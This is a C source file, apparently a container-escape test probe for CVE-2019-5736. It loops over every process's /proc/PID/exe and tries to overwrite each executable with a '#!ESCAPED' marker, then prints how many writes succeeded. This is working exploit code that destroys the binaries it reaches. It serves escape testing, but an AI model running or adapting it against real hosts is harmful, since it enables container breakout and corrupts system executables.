// overwrite — A1 (CVE-2019-5736): opens /proc/PID/exe of every process it sees for writing, again and again, and writes
// a marker where it may. Prints how often it could.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void) {
  unsigned written = 0;
  for (int round = 0; round < 50; ++round) {
    DIR *proc = opendir("/proc");
    struct dirent *item;
    while (proc && (item = readdir(proc))) {
      char path[300];
      if (item->d_name[0] < '1' || item->d_name[0] > '9') continue;
      snprintf(path, sizeof path, "/proc/%s/exe", item->d_name);
      // Through a descriptor of it, too: the file may be busy now and free later.
      int handle = open(path, O_PATH);
      snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
      int fd = handle < 0 ? -1 : open(path, O_WRONLY);
      if (fd >= 0 && write(fd, "#!ESCAPED", 9) > 0) ++written;
      if (fd >= 0) close(fd);
      if (handle >= 0) close(handle);
    }
    if (proc) closedir(proc);
  }
  printf("overwritten %u\n", written);
  return 0;
}
